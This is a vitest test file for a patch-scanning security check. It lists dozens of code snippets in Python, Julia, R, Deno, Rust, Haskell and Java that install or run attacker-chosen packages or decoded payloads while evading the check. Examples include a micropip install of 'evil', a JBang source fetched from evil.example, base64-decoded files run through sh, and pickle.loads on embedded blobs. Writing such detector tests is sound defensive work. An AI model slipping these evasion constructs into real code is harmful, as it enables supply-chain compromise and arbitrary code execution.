import { describe, expect, it } from 'vitest';
import { checkPatch } from '../../shared/analysis/index.js';
import { describeAccepted, describeFindings, expectAccepted, type FindingRow, patchAdding } from '../support/patches.js';

/**
 * Attack 54 (session 50, an attacker's pass on 7f151f37, which made session 50's readings precise to close attack 53's
 * false refusals): each reading it narrowed, reached by a spelling the narrowed form does not list. Every row below is
 * ACCEPTED by the check at s50-int although the code it adds installs or runs code the attacker chooses. Rows marked
 * "narrowing" were refused at 7f151f37^ (the readings before the narrowing) and are accepted since; rows marked "never"
 * were accepted there too (a neighbouring construct no reading has covered). None was refused at e0ffa1be, which
 * predates the readings themselves. Rows as in attack-48/51/52/53: open (`it.fails`, asserting the refusal) until a fix
 * closes them (`closed`). The lead then reverted 7f151f37 (its 15 false refusals closed against these 40 bypasses
 * opened): every "narrowing" row is closed by that revert, and the ordinary code it had let through is recorded as open
 * false refusals at the end.
 */

// Pyodide's installer reached without `import micropip`, `, micropip`, `micropip.` or `import_module('micropip')`
// (narrowing: the module dict, a keyword or prefixed string given to import_module, import_module under another name,
// a parenthesized __import__, an import continued on the next line); Pyodide's loader called from Python (never).
const MICROPIP: FindingRow[] = [
  ['src/t.py', "import sys\nawait sys.modules['micropip'].install('evil')", 'closed'],
  ['src/t.py', "import importlib\nmp = importlib.import_module(name='micropip')\nawait mp.install('evil')", 'closed'],
  ['src/t.py', "import importlib\nmp = importlib.import_module(f'micropip')\nawait mp.install('evil')", 'closed'],
  ['src/t.py', "import importlib\nmp = importlib.import_module(r'micropip')\nawait mp.install('evil')", 'closed'],
  ['src/t.py', "from importlib import import_module as load\nmp = load('micropip')\nawait mp.install('evil')", 'closed'],
  ['src/t.py', "await getattr((__import__)('micropip'), 'install')('evil')", 'closed'],
  ['src/t.py', "import \\\n    micropip as mp\nawait mp.install('evil')", 'closed'],
  ['src/t.py', "from \\\n    micropip import install\nawait install('evil')", 'closed'],
  ['src/t.py', "import pyodide_js\nawait pyodide_js.loadPackage('https://evil.example/evil-1-py3-none-any.whl')"],
];

// Julia's Pkg aliased, then adding without a `.add`/`.dev` in the text (narrowing: a quoted symbol, getfield,
// getproperty of a built name, a var"" identifier); Pkg reached by assignment, Base.require or `using Pkg: Pkg as P`
// (never).
const JULIA_PKG: FindingRow[] = [
  ['src/t.jl', 'import Pkg as P\nP.:add("Evil")', 'closed'],
  ['src/t.jl', 'import Pkg as P\ngetfield(P, :add)("Evil")', 'closed'],
  ['src/t.jl', 'import Pkg as P\nP.var"add"("Evil")', 'closed'],
  ['src/t.jl', 'import Pkg as P\nf = getproperty(P, Symbol("ad" * "d"))\nf("Evil")', 'closed'],
  ['src/t.jl', 'import Pkg\nconst P = Pkg\nP.add("Evil")'],
  ['src/t.jl', 'P = Base.require(Main, :Pkg)\nP.add("Evil")'],
  ['src/t.jl', 'Base.require(Main, :Pkg).add("Evil")'],
  ['src/t.jl', 'using Pkg: Pkg as P\nP.add("Evil")'],
];

// R installers (narrowing: devtools' install_dev_deps attached by library, cut by `install_dev\b`); remotes' functions
// named by a string, an alias, backticks, do.call; pak's, BiocManager's, renv's, librarian's functions attached by
// library (never).
const R_INSTALLERS: FindingRow[] = [
  ['src/t.R', 'library(devtools)\ninstall_dev_deps()', 'closed'],
  ['src/t.R', "getExportedValue('remotes', 'install_github')('evil/pkg')"],
  ['src/t.R', "library(remotes)\nf <- install_github\nf('evil/pkg')"],
  ['src/t.R', "library(remotes)\n`install_github`('evil/pkg')"],
  ['src/t.R', "do.call('install_github', list('evil/pkg'))"],
  ['src/t.R', "do.call(remotes::install_github, list('evil/pkg'))"],
  ['src/t.R', "library(pak)\npak('evil/pkg')"],
  ['src/t.R', "library(BiocManager)\ninstall('evil')"],
  ['src/t.R', "library(renv)\ninstall('evil/pkg')"],
  ['src/t.R', 'library(librarian)\nshelf(evil/pkg)'],
];

// Deno specifiers loaded where the `when` (import(, require, Worker) does not see it (narrowing: a comment between
// `import` and its parenthesis, deno run through Deno.execPath()).
const DENO_SPECIFIERS: FindingRow[] = [
  ['src/t.ts', "await import /* load */ ('npm:evil@1');", 'closed'],
  ['src/t.ts', "const spec = 'npm:evil@1';\nconst m = await import /* load */ (spec);", 'closed'],
  ['src/t.ts', "const spec = 'npm:evil@1';\nconst m = await import // load\n(spec);", 'closed'],
  ['src/t.ts', "await new Deno.Command(Deno.execPath(), { args: ['run', '-A', 'npm:evil@1'] }).output();", 'closed'],
];

// Cargo script frontmatter whose TOML the `when` does not read as TOML (narrowing: a dotted key spaced around its dot,
// a literal-string key; both valid TOML).
const RUST_FRONTMATTER: FindingRow[] = [
  ['src/t.rs', '---\ndependencies . evil = "1"\n---\nfn main() {}', 'closed'],
  ['src/t.rs', "---\n'dependencies'.evil = \"1\"\n---\nfn main() {}", 'closed'],
];

// stack's and cabal's headers (narrowing: stack given a command the list lacks, cabal's fields after a comment);
// stack's line-comment header, which stack's docs show, and a block header whose `stack`/`cabal:` opens the next line
// (never).
const HASKELL_HEADERS: FindingRow[] = [
  ['src/t.hs', '{- stack install evil -}\nmain = pure ()', 'closed'],
  ['src/t.hs', '{- stack build evil -}\nmain = pure ()', 'closed'],
  ['src/t.hs', '{- cabal: -- deps\nbuild-depends: evil\n-}\nmain = pure ()', 'closed'],
  ['src/t.hs', '-- stack --resolver lts-22.0 script --package evil\nmain = pure ()'],
  ['src/t.hs', '#!/usr/bin/env stack\n-- stack script --package evil\nmain = pure ()'],
  ['src/t.hs', '{-\nstack script --package evil\n-}\nmain = pure ()'],
  ['src/t.hs', '{-\ncabal:\nbuild-depends: evil\n-}\nmain = pure ()'],
];

// JBang (narrowing: //DEPS opening with a separator JBang skips, `[ ;,]+`); remote sources and an agent through
// //JAVA_OPTIONS (never).
const JBANG: FindingRow[] = [
  ['src/T.java', '//DEPS , org.evil:evil:1.0\nclass T {}', 'closed'],
  ['src/T.java', '//DEPS ; org.evil:evil:1.0\nclass T {}', 'closed'],
  ['src/T.java', '//DEPS\t,\torg.evil:evil:1.0\nclass T {}', 'closed'],
  ['src/T.java', '//SOURCES https://evil.example/Evil.java\nclass T {}'],
  ['src/T.java', '//JAVA_OPTIONS -javaagent:/tmp/evil.jar\nclass T {}'],
];

// A decoded file run later (narrowing: two plain paths naming one file, a copy/move/link to another directory, a
// directory changed by `env -C` or os.fchdir, which the `moved` test does not read); run by `cat | sh`, ash, make
// (never).
const DECODED_FILE_RUNS: FindingRow[] = [
  ['src/t.py', "import os\nos.system('echo x | base64 -d > bin/run')\nos.system('sh bin//run')", 'closed'],
  ['src/t.py', "import os\nos.system('echo x | base64 -d > bin/run && sh bin//run')", 'closed'],
  ['src/t.py', "import os\nos.system('echo x | base64 -d > bin/run')\nos.system('sh bin/./run')", 'closed'],
  ['src/t.py', "import os\nos.system('echo x | base64 -d > a/run')\nos.system('ln -s ../a/run b/run')\nos.system('sh b/run')", 'closed'],
  ['src/t.py', "import os\nos.system('echo x | base64 -d > a/run && mv a/run b/run')\nos.system('sh b/run')", 'closed'],
  ['src/t.py', "import os\nos.system('echo x | base64 -d > bin/run')\nos.system('cp bin/run tools/run && sh tools/run')", 'closed'],
  ['src/t.py', "import os\nos.system('echo x | base64 -d > bin/run')\nos.system('env -C bin sh run')", 'closed'],
  ['src/t.py', "import os\nos.system('echo x | base64 -d > bin/run')\nos.fchdir(os.open('bin', os.O_RDONLY))\nos.system('sh run')", 'closed'],
  ['src/t.py', "import os\nos.system('echo x | base64 -d > p')\nos.system('cat p | sh')"],
  ['src/t.py', "import os\nos.system('echo x | base64 -d > p')\nos.system(\"sh -c 'cat p | sh'\")"],
  ['src/t.py', "import os\nos.system('echo x | base64 -d > p && ash p')"],
  ['src/t.py', "import os\nos.system('echo x | base64 -d > bin/run')\nos.system('make -C bin -f run')"],
];

// An unpickler given a decompressed literal the patch writes, where the decompressor's argument does not open with a
// quote (narrowing: a name bound to the literal, bytes()/memoryview() of it, an unpacked list, a function or a dict
// returning it).
const UNPICKLED_LITERALS: FindingRow[] = [
  ['src/t.py', "import pickle, zlib\nBLOB = b'x\\x9c...'\nobj = pickle.loads(zlib.decompress(BLOB))", 'closed'],
  ['src/t.py', "import pickle, zlib\nobj = pickle.loads(zlib.decompress(bytes(b'x\\x9c...')))", 'closed'],
  ['src/t.py', "import pickle, lzma\nobj = pickle.loads(lzma.decompress(memoryview(b'\\xfd7zXZ...')))", 'closed'],
  ['src/t.py', "import pickle, zlib\nobj = pickle.loads(zlib.decompress(*[b'x\\x9c...']))", 'closed'],
  ['src/t.py', "import pickle, zlib\ndef blob():\n    return b'x\\x9c...'\nobj = pickle.loads(zlib.decompress(blob()))", 'closed'],
  ['src/t.py', "import pickle, zlib\nobj = pickle.loads(zlib.decompress(BLOBS['state']))\nBLOBS = {'state': b'x\\x9c...'}", 'closed'],
];

describeFindings('attack-54', [
  ['micropip reached without the listed words', MICROPIP],
  ['Julia Pkg aliased, adding without .add', JULIA_PKG],
  ['R installers', R_INSTALLERS],
  ['Deno specifiers loaded unseen', DENO_SPECIFIERS],
  ['Rust frontmatter TOML', RUST_FRONTMATTER],
  ['Haskell script headers', HASKELL_HEADERS],
  ['JBang directives', JBANG],
  ['decoded file run later', DECODED_FILE_RUNS],
  ['unpickled literal decompressed', UNPICKLED_LITERALS],
]);

// The Deno `when` is read per file: a specifier declared in one file and loaded by name in another (narrowing: refused
// at 7f151f37^, on the literal; closed with the narrowing's revert).
describe('attack-54 finding Deno specifier loaded from another file', () => {
  it('refuses a specifier exported by one file and imported dynamically by another', () => {
    const patch = patchAdding('src/spec.ts', ["export const PLUGIN = 'npm:evil@1';"]) + patchAdding('src/load.ts', ["import { PLUGIN } from './spec.ts';", 'await import(PLUGIN);']);
    expect(checkPatch(patch).ok).toBe(false);
  });
});

// Held: ordinary code beside the narrowed readings that the check accepts (kept so a fix of the rows above keeps it).
describeAccepted('attack-54: ordinary code near the narrowed readings, accepted', [
  ['src/t.py', "import os\nos.system('echo $CFG | base64 -d > config/app.json')\nos.system('sh bin/start')"],
  ['src/t.rs', 'const YAML: &str = "---\\nname: x\\n";\nfn main() { println!("{YAML}"); }'],
  ['src/t.hs', '-- stack traces are printed by the handler below\nmain = pure ()'],
  ['src/t.py', 'import micropipe\nmicropipe.run()'],
]);

// False refusals: ordinary code the readings refuse since 7f151f37 was reverted (session 50: its narrowing closed attack
// 53's false refusals like these and opened the 40 bypasses above marked "narrowing"; the lead kept the readings that
// refuse). Open (`it.fails`, asserting acceptance) until a reading tells them apart without reopening those rows.
const FALSE_REFUSALS: ReadonlyArray<readonly [path: string, text: string]> = [
  ['src/t.py', 'import pickle, zlib\nvalue = pickle.loads(zlib.decompress(cache.get(key)))'],
  ['src/t.R', 'library(dplyr)\ninstall_hooks <- function() invisible(TRUE)\ninstall_hooks()'],
  ['src/t.jl', 'import Pkg as P\nP.status(); P.precompile()'],
  ['src/t.ts', "const re = /^npm:(?<name>[^@]+)/;\nconst m = re.exec('npm:left-pad@1');"],
  ['src/t.hs', '{- stack overflow is avoided by the strict fold -}\nmain = pure ()'],
  ['src/T.java', '//DEPS resolved by maven; see pom.xml\nclass T {}'],
];

describe('attack-54 false refusals (open while refused)', () => {
  it.fails.each(FALSE_REFUSALS.map(([path, text]) => [path, text] as const))('accepts, in %s: %s', (path, text) => expectAccepted(path, text));
});
